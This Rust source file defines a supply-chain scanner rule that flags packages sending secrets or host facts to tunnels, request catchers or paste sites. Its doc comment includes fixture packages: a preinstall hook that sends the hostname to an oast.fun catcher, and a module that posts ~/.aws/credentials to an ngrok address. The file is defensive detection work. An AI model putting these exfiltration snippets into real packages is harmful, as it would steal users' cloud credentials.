//! # Secrets go to a tunnel, a request catcher or a paste
//!
//! A secret or facts of the machine reach a throw-away name: a tunnel, a catcher of requests, a public
//! store of text, a hidden service.
//!
//! ## Why it matters
//!
//! Such names need no account and vanish in a day. Tests use them, and thieves.
//!
//! ## Known benign uses
//!
//! Commands that share a text on a paste send what a person gives them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const os = require("os");
//! fetch("https://void-specimen.oast.fun/?h=" + os.hostname()); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const axios = require("axios"), fs = require("fs");
//! exports.check = () => axios.post("https://void-specimen.ngrok-free.app/k", fs.readFileSync(`${process.env.HOME}/.aws/credentials`, "utf8")); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! const fs = require("fs");
//! const body = fs.readFileSync(process.argv[2], "utf8");
//! fetch("https://paste.rs/", { method: "POST", body });
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)

use crate::prelude::*;

/// Secrets go to a tunnel, a request catcher or a paste.
pub struct DataSentToTunnelOrCatcher;

impl Rule for DataSentToTunnelOrCatcher {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "data-sent-to-tunnel-or-catcher",
            title: "Secrets go to a tunnel, a request catcher or a paste",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1567.002",
            covers: &["exfil-request-bin"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|_| true, |sink| sink.host().is_some_and(is_throw_away)) {
            let is_worth = match &flow.source {
                Source::HostFact => flow.trigger.runs_unasked(),
                Source::Variable(name) => flow.trigger.runs_unasked() && !facts.owns_variable(name),
                Source::Environment | Source::SecretFile(_) | Source::Keystrokes => {
                    flow.trigger != Trigger::Dormant
                }
                source => source.is_secret() && flow.trigger.runs_unasked(),
            };
            if is_worth {
                found.flow(flow);
            }
        }
    }
}

fn is_throw_away(host: &Host) -> bool {
    matches!(host.class(), HostClass::Tunnel | HostClass::Paste | HostClass::Hidden)
}
